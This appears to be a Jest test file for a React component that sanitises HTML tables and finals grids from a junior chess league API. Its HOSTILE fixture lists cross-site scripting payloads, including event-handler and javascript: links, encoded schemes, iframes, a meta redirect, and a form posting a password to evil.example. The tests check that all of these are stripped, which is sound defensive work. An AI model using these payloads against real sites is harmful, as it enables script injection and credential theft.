/** @jest-environment jsdom */
import { render } from '@testing-library/react';
import { divisionTableHtml, finalsGridHtml } from '@/lib/league-api/html';
import { sampleBundle } from '@/test/fixtures';
import { SafeHtml, sanitizeLeagueHtml } from './SafeHtml';

const HOSTILE = [
  '<script>window.pwned = 1</script>',
  '<img src="x" onerror="window.pwned = 1">',
  '<svg onload="window.pwned = 1"><circle r="1"></circle></svg>',
  '<a href="javascript:window.pwned = 1">js link</a>',
  '<a href="JaVaScRiPt&#58;window.pwned = 1">encoded js link</a>',
  '<a href="  java\tscript:window.pwned = 1">spaced js link</a>',
  '<a href="data:text/html,<script>alert(1)</script>">data link</a>',
  '<a href="//evil.example/">protocol-relative link</a>',
  '<a href="https://www.nswjcl.org.au/" target="_top" onclick="window.pwned = 1">league</a>',
  '<div style="position:fixed;inset:0;z-index:99999;background:white">cover</div>',
  '<table class="overlay fixed winner" style="position:absolute;top:0"><tr><td onmouseover="window.pwned = 1" background="javascript:alert(1)">cell</td></tr></table>',
  '<iframe src="https://evil.example/"></iframe>',
  '<form action="https://evil.example/steal" method="post"><input name="password"><button>Send</button></form>',
  '<style>body { display: none }</style>',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<meta http-equiv="refresh" content="0;url=https://evil.example/">',
  '<base href="https://evil.example/">',
  '<object data="x.swf"></object><embed src="x.swf">',
  '<p id="main" class="skip-link">hijacked id</p>',
  '<h1>Big heading</h1>',
].join('\n');

describe('sanitised league HTML', () => {
  const clean = sanitizeLeagueHtml(HOSTILE);

  it('drops scripts, frames, forms, styles, embedded objects and page-level tags', () => {
    expect(clean).not.toMatch(
      /<(script|iframe|form|input|button|style|link|meta|base|object|embed|svg|img)\b/i,
    );
    expect(clean).not.toContain('window.pwned');
    expect(clean).not.toContain('display: none');
  });

  it('drops every event handler, style and id attribute, and classes outside the contract', () => {
    expect(clean).not.toMatch(/\son\w+=/i);
    expect(clean).not.toMatch(/\sstyle=/i);
    expect(clean).not.toMatch(/\sid=/i);
    expect(clean).not.toMatch(/class="[^"]*(overlay|fixed|skip-link)|background=/);
    expect(clean).toContain('<table class="winner">');
  });

  it('keeps only http(s) and mailto links, opened without a handle on the page', () => {
    expect(clean).not.toMatch(/javascript|data:|evil\.example/i);
    expect(clean).toContain(
      '<a href="https://www.nswjcl.org.au/" target="_blank" rel="noopener noreferrer nofollow">league</a>',
    );
    expect(clean).toContain('<a rel="noopener noreferrer nofollow">js link</a>');
  });

  it('brings headings to the level the page asks for', () => {
    expect(clean).toContain('<h3>Big heading</h3>');
    expect(sanitizeLeagueHtml('<h1>x</h1><h4>y</h4>', 2)).toBe('<h2>x</h2><h2>y</h2>');
  });

  it('renders inert in the page: nothing runs and nothing can cover the page', () => {
    const win = window as unknown as { pwned?: number };
    const { container } = render(<SafeHtml html={HOSTILE} label="Hostile table" />);
    const region = container.firstElementChild as HTMLElement;
    expect(region).toHaveAttribute('role', 'region');
    expect(region).toHaveAccessibleName('Hostile table');
    expect(
      region.querySelectorAll(
        'script, iframe, form, input, style, img, svg, object, embed, link, meta, base',
      ),
    ).toHaveLength(0);
    for (const element of Array.from(region.querySelectorAll('*'))) {
      for (const attribute of Array.from(element.attributes)) {
        expect(attribute.name).toMatch(/^(class|href|rel|target|scope|colspan|rowspan|span|title)$/);
      }
    }
    region.querySelectorAll('a').forEach((a) => a.click());
    expect(win.pwned).toBeUndefined();
  });

  it('keeps the tables and grids the contract sends', () => {
    const bundle = sampleBundle();
    const table = sanitizeLeagueHtml(divisionTableHtml(bundle.divisions[0]!, [1, 3]));
    expect(table).toContain('<table class="draw-table"><caption>PA1 Division 1</caption>');
    expect(table).toContain('<th scope="row">Carlingford A</th>');
    const grid = sanitizeLeagueHtml(finalsGridHtml(bundle.finals[0]!));
    expect(grid).toContain(
      '<li class="winner"><span class="team">New Lambton South</span> <span class="score">4(11)#</span></li>',
    );
  });
});
